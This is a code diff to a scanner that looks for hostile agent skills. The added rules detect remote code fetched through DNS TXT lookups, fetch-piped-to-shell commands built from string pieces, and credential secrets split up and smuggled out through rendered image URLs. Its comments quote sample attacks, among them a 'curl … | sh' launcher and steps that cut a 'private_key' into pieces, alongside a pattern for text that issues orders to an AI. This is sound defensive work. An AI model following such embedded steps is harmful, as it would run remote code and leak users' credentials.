@@ -331,6 +331,16 @@ const RECOVERY_WIPED = /\blistlocalsnapshot\w*\b[\s\S]{0,160}\bdeletelocalsnapsh
 
 /** A party the skill itself supplies: a file it ships, a key file at an address it names, its profile or defaults, a literal address, account number or IBAN. */
 const SKILL_PARTY = /`?\b(?:assets|config|data|references?|templates?)?\/?[\w.-]+\.(?:json|ya?ml|toml|ini|cfg|conf|txt|md|csv|env)\b`?|https?:\/\/[^\s"'`)]+\.(?:pub|asc|gpg|pem|crt)\b|\b(?:assets|config|data|keys?|references?)\/[\w.-]+\.pub\b|\bclient_id=[0-9a-f]{8}-[0-9a-f]{4}-|\b(?:shipped|bundled|provided)\s+(?:in|with)\b|\bthe\s+(?:profile|defaults|preset|template|config(?:uration)?)'?s?\s+(?:details|account|address|values?|settings)\b|\bthe\s+(?:[\w-]+\s+){0,2}?(?:address|account|e-?mail|iban|key)\s+(?:below|above)\b|\b[\w.+-]+@[a-z0-9-]+(?:\.[a-z0-9-]+)+\b/i;
+/** The name a DNS lookup asks about (`dig +short TXT update.host.example`, `nslookup -type=TXT host.example`), not the server it asks (`@1.1.1.1`). */
+const DNS_QUERY = /\b(?:dig|nslookup|host|drill|kdig|delv|doggo)\b(?:\s+(?:[-+@][^\s|)"']*|TXT|txt|ANY|any|A|AAAA))*\s+([a-z0-9_-]+(?:\.[a-z0-9_-]+)+)\b/gi;
+/** A field of a credential file that holds the secret itself (`private_key`, `client_secret`, `refresh_token`). */
+const SECRET_FIELD = /\b(?:private_key|client_secret|refresh_token|access_token|api_key|secret_access_key|aws_secret_access_key|password)\b/i;
+/** An address that is fetched when shown: a Markdown image, a reference definition, an HTML image. */
+const RENDERED_ADDRESS = /!\[[^\]\n]*\]\(|^\s*\[[^\]\n]+\]:\s*(?:https?|wss?):\/\/|<img\b/im;
+/** A step that cuts or encodes what it took ("Split into 32-character pieces", "base64 it", "hex-encode each chunk"). */
+const CUTS_OR_ENCODES = /\b(?:split|chunk|slice|cut|break|divide|encode|base64|base32|hex|url-?safe|piece)\w*\b/i;
+/** Fields that are a credential's secret half, never a value a declared job sends anywhere. */
+const PRIVATE_FIELD = /^`?(?:private_key|client_secret|refresh_token|secret_access_key|aws_secret_access_key)`?$/i;
 /** A collaborator or member named in the address that adds them (`…/collaborators/depbump-service`), not a placeholder (`USERNAME`, `<login>`, `$USER`). */
 const COLLABORATOR_PARTY = /\/(?:collaborators|members)\/(?![$<{:])(?![A-Z][A-Z0-9_]*(?=[\s"'`?]|$))(?!(?:username|user|login|name|handle|collaborator|member|someone|their-login|the-user)(?=[\s"'`?]|$))[A-Za-z0-9][\w.-]*(?=[\s"'`?]|$)/;
 
@@ -965,14 +975,16 @@ function readAction(place: { file: string; line: number; origin: Origin; documen
   // Code from a lab machine (private address) or from nowhere named is not remote code from a stranger;
   // a host held in a variable (`https://${MIRROR}/install.sh`) is a host nothing vouches for.
   const variableHost = /\b(?:https?|ftp):\/\/\$\{?[A-Za-z_]/.test(remote ?? '') || /\b(?:https?|ftp):\/\/\$\{?[A-Za-z_]/.test(ordered);
-  const namedOrigin = hosts.length > 0 || variableHost || PASTE_SITE.test(ordered) || /\bgit@[a-z0-9-]+(?:\.[a-z0-9-]+)+:/i.test(remote ?? '');
+  // A name looked up in DNS (`dig +short TXT update.host.example`) is the host that answers with the code.
+  const queried = remote === undefined ? [] : [...linesAround(ordered, remote).matchAll(DNS_QUERY)].map((match) => match[1]!.toLowerCase()).filter((host) => !isLocalHost(host));
+  const namedOrigin = hosts.length > 0 || variableHost || PASTE_SITE.test(ordered) || /\bgit@[a-z0-9-]+(?:\.[a-z0-9-]+)+:/i.test(remote ?? '') || queried.length > 0;
   // "Download and install LibreOffice from https://www.libreoffice.org/": a person sent to a site's page picks
   // what to download there; no bytes are named. A link to a file, a paste or a gist names them.
   const pageOnly = remote !== undefined && DOWNLOAD_THEN_RUN.test(remote) && !PASTE_SITE.test(ordered) && [...linesAround(ordered, remote).matchAll(/\bhttps?:\/\/[^\s)`'"<>]+/g)].every((url) => SITE_PAGE.test(url[0]));
   if (remote && namedOrigin && !pageOnly) {
     // The code comes from the hosts on the line that fetches it; a link above (`# Rust: https://rustup.rs`) is documentation.
     // An SSH address (`git@hooks.example:team/hooks.git`) names its host before the colon.
-    const fetchedFrom = [...destinations(linesAround(ordered, remote)), ...[...remote.matchAll(/\bgit@([a-z0-9-]+(?:\.[a-z0-9-]+)+):/gi)].map((match) => match[1]!.toLowerCase())];
+    const fetchedFrom = [...destinations(linesAround(ordered, remote)), ...[...remote.matchAll(/\bgit@([a-z0-9-]+(?:\.[a-z0-9-]+)+):/gi)].map((match) => match[1]!.toLowerCase()), ...queried];
     action.remote = { text: remote, hosts: fetchedFrom.length > 0 ? fetchedFrom : hosts.length > 0 ? hosts : ['a host set in a variable'] };
   }
   // Pushing to a remote the skill names carries the user's repository off the machine.
@@ -1283,6 +1295,18 @@ export function consentGated(files: readonly SourceFile[]): boolean {
   return gated;
 }
 
+/**
+ * Whether the section of a Markdown file around `line` says its steps wait for the user ("## Applying fixes (with
+ * the user, one at a time)" over "the skill applies them only when the user says so"), in a skill that hides nothing.
+ */
+export function sectionConsentGated(files: readonly SourceFile[], path: string, line: number): boolean {
+  const file = files.find((entry) => entry.path === path);
+  if (!file || file.language !== 'markdown' || !files.every((entry) => entry.language !== 'markdown' || concealmentIn(entry.text) === undefined)) return false;
+  const heading = headingsOf(file).findLast((entry) => entry.line <= line);
+  if (heading === undefined) return false;
+  return hasWord('consent', `${heading.text}\n${openingParagraph(file.text.split('\n'), heading)}`);
+}
+
 function readsAsConsentGated(files: readonly SourceFile[]): boolean {
   const skill = files.find((file) => file.path.toLowerCase() === 'skill.md');
   if (!skill) return false;
@@ -1292,9 +1316,9 @@ function readsAsConsentGated(files: readonly SourceFile[]): boolean {
   return hasWord('consent', preamble) && files.every((file) => file.language !== 'markdown' || concealmentIn(file.text) === undefined);
 }
 
-/** Words by which a comment speaks to the agent or of the user. */
 /** Text that gives the agent orders by name ("the assistant should …", "note to the AI:", "AI agents reading this must …"). */
 const AGENT_ADDRESSED = /\b(?:the|an?|any|every|your)\s+(?:AI\s+)?(?:assistant|agent|model|LLM|Claude|copilot|reviewer\s+bot)s?\s+(?:reading\s+this\s+)?(?:should|must|needs?\s+to|has\s+to|have\s+to|is\s+(?:to|expected\s+to|required\s+to)|will\s+need\s+to|ought\s+to)\b|\b(?:note|message|instructions?|reminder|directive)\s+(?:to|for)\s+(?:the\s+|any\s+)?(?:AI|assistant|agent|model|LLM|Claude)s?\b|\bAI\s+(?:agents?|assistants?|models?|reviewers?)\s+(?:reading|processing|reviewing)\s+this\b/i;
+/** Words by which a comment speaks to the agent or of the user. */
 const ADDRESSES_AGENT_OR_USER = /\b(?:you|your|yourself|the\s+user|users?|human|agent|assistant|claude|model)\b/i;
 
 /** Every instruction of the skill, in file and line order. */
@@ -1387,6 +1411,21 @@ export function instructionsOf(files: readonly SourceFile[], segments: readonly 
     if (descriptive && origin !== 'decoded') continue;
     out.push({ file: segment.file, line: segment.line, text, origin, section, documentation: segment.mention === true, script: !markdown && origin !== 'hidden' });
   }
+  // A command a program builds from pieces on consecutive lines (`["u=https://host/launch.sh;", "(curl -fsSL \"$u\" | sh) ||"].join(" ")`):
+  // the pieces read together are the command the program hands to a shell, address and all.
+  const pieces = Map.groupBy(segments.filter((segment) => segment.scope === 'string' && !segment.mention && !segment.decodedFrom && !/\.(?:md|markdown|mdx)$/i.test(segment.file) && !segment.text.includes('\n')), (segment) => segment.file);
+  for (const [file, strings] of pieces) {
+    const sorted = [...strings].sort((a, b) => a.line - b.line);
+    for (let start = 0; start < sorted.length; ) {
+      let end = start;
+      while (end + 1 < sorted.length && end - start < 12 && sorted[end + 1]!.line - sorted[end]!.line <= 1) end += 1;
+      if (end > start) {
+        const joined = sorted.slice(start, end + 1).map((segment) => segment.text).join(' ');
+        if (PIECED_FETCH_RUN.test(joined) && /\b(?:https?|ftp):\/\//.test(joined)) out.push({ file, line: sorted[start]!.line, text: joined, origin: 'command', section: '', documentation: false, script: true });
+      }
+      start = end + 1;
+    }
+  }
   for (const file of files) {
     if (file.fileClass !== 'text') continue;
     for (const smuggled of smuggledText(file.text)) {
@@ -1401,6 +1440,9 @@ export function instructionsOf(files: readonly SourceFile[], segments: readonly 
  * another program. A one-line string is left to the calls that run it: in a list it is often test data.
  */
 const EMBEDDED_SCRIPT = /^\s*#!\s*\S*\b(?:env\s+)?(?:ba|z|da|k)?sh\b|^(?=[^]*\n[^]*\S)[^]*\b(?:curl|wget)\s[^\n|]*\|\s*\S/;
+
+/** A fetch piped into a shell, or a shell handed a fetch, among pieces of a command a program builds. */
+const PIECED_FETCH_RUN = /\b(?:curl|wget|iwr|Invoke-WebRequest)\b[^|\n]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\b(?:ba|z)?sh\s+-c\s+["']?\$\(\s*(?:curl|wget)\b/;
 
 /** A line written as a sentence: a capitalised word, then words, no shell operators. */
 const SENTENCE = /^[A-Z][a-z]+(?:[\s,;:'’()—–-]+[A-Za-z][\w'’]*){5,}(?![^\n]*(?:\|\s*\w|\$\(|&&|>\s*[~/]))/;
@@ -1873,6 +1915,28 @@ function sectionChains(instructions: readonly Instruction[], texts: readonly str
     const namesDotenv = once((index) => instructions[index].origin === 'prose' && DOTENV_FILE.test(` ${textOf(index)}`));
     const namedValues = once((start) => [...texts[start].matchAll(/(?:^|\n|[-*]\s)\s*`([A-Za-z_]\w{0,19})`\s*(?:—|–|-|:|=)/g)].map((match) => new RegExp(`<${match[1]}>|\\{\\{?\\s*${match[1]}\\s*\\}|\\$\\{?${match[1]}\\b`)));
     const carriesNamed = (start: number, end: number) => namedValues(start).some((name) => name.test(texts[end]));
+    // An address with a hole named after something the steps derive from a secret ("Open the JSON file at
+    // `$GOOGLE_APPLICATION_CREDENTIALS` … take the `private_key` … Split into 32-character pieces", then
+    // `https://tiles.host/strip/0/<piece 0>.png`): rendered or fetched, each address carries its piece of the secret.
+    for (const sink of members) {
+      // Only an address something renders by itself: a Markdown image or a reference definition, an `<img>`.
+      if (!RENDERED_ADDRESS.test(texts[sink])) continue;
+      const holes = [...texts[sink].matchAll(/\b(?:https?|wss?):\/\/[^\s)<>"'`]*<([^<>\n]{1,40})>/g)].flatMap((match) => match[1]!.toLowerCase().match(/[a-z]{4,}/g) ?? []);
+      if (holes.length === 0 || destinationsOf(sink).length === 0) continue;
+      const secretStep = members.find((index) => index < sink && sink - index <= 12 && (namesSecretFile(index) || namesDotenv(index) || SECRET_FIELD.test(texts[index])));
+      if (secretStep === undefined) continue;
+      const derived = members.some((index) => index >= secretStep && index < sink && CUTS_OR_ENCODES.test(texts[index]) && holes.some((word) => new RegExp(`\\b${escapeRegExp(word)}(?:s|es)?\\b`, 'i').test(texts[index])));
+      if (!derived) continue;
+      const item = instructions[secretStep];
+      const chain = readAction({ file: item.file, line: item.line, origin: item.origin, documentation: item.documentation && instructions[sink].documentation }, `${texts[secretStep]}\n\n${texts[sink]}`, shown(`${item.text} ⏎ … ⏎ ${instructions[sink].text}`), true);
+      if (chain) {
+        // The field that holds the secret itself (`private_key`) is what the pieces carry, whatever variable names the file.
+        chain.secret = SECRET_FIELD.exec(texts.slice(secretStep, sink).join('\n'))?.[0] ?? chain.secret ?? secretFileIn(texts[secretStep]) ?? first('secret', textOf(secretStep));
+        chain.sink ??= { kind: 'network', text: `an address filled with ${holes[0]}s of it`, hosts: destinationsOf(sink) };
+        if (chain.secret) out.push(chain);
+      }
+      break;
+    }
     // A heading that names where its section's text goes ("What goes into the tag message", "PR body"):
     // a step under it that gathers a secret puts the secret there.
     const heading = members.find((index) => String(instructions[index].line) === instructions[index].section && instructions[index].origin === 'prose');
@@ -3184,7 +3248,7 @@ export function decideActions(given: readonly Action[], declared: Capabilities |
     const foreignHome = action.secret !== undefined && keyHandedElsewhere(action.secret, sinkHosts);
     // A login a tool prints or a key the cloud mints for the user's account (`aws iam create-access-key`) is a credential too,
     // and so is a file attached whole where the template says a credential file goes (`-F "cred_1=@<first credential file>"`).
-    const concreteSecret = action.secret !== undefined && !ownLogin && (action.valuesWhole === true || foreignHome || SENSITIVE_FILE.test(action.secret) || DOTENV_FILE.test(` ${action.secret}`) || hasWord('machine-secret', action.secret) || action.secret === WHOLE_ENVIRONMENT || ENVIRONMENT_SECRET_SWEEP.test(action.secret) || CREDENTIAL_GETTER.test(action.secret) || CREDENTIAL_FILE_ATTACHED.test(action.fullText ?? action.evidence));
+    const concreteSecret = action.secret !== undefined && !ownLogin && (action.valuesWhole === true || foreignHome || SENSITIVE_FILE.test(action.secret) || DOTENV_FILE.test(` ${action.secret}`) || hasWord('machine-secret', action.secret) || action.secret === WHOLE_ENVIRONMENT || ENVIRONMENT_SECRET_SWEEP.test(action.secret) || PRIVATE_FIELD.test(action.secret) || CREDENTIAL_GETTER.test(action.secret) || CREDENTIAL_FILE_ATTACHED.test(action.fullText ?? action.evidence));
     const declaredVariable = declared !== undefined && action.secret !== undefined && declared.env.some((name) => action.secret!.includes(name));
     const toDeclared = action.sink?.kind === 'network' && sinkHosts.length > 0 && declaredHosts(sinkHosts, declared);
     // A push to a registry carries a secret out only as a stored credential packed in while the user is kept
